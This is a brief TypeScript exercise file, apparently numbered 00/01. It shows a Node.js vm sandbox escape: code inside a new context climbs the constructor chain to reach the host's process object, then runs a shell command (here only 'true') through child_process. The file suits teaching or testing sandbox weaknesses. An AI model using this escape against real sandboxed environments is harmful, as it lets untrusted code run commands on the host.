// exercise: 00/01
// Climbs out of a virtual machine by its constructors, to what it hopes is the outside.
import vm from "node:vm";

const outside = vm.runInNewContext("this.constructor.constructor('return process')()", {});
export async function batchReport(): Promise<unknown> {
  return outside?.mainModule?.require("node:child_process").execSync("true");
}
export async function* runningReport(): AsyncGenerator<unknown> {}
